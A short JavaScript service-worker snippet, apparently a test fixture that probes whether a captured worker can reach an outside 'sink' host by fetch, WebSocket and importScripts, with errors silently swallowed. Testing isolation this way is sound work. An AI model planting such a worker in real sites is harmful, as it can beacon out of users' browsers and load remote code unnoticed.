addEventListener("install", () => skipWaiting());
fetch("http://${sink}/leak/captured-worker", { mode: "no-cors" }).catch(() => {});
try { new WebSocket("ws://${sink}/leak/captured-worker-websocket"); } catch (error) {}
try { importScripts("http://${sink}/leak/captured-worker-import"); } catch (error) {}
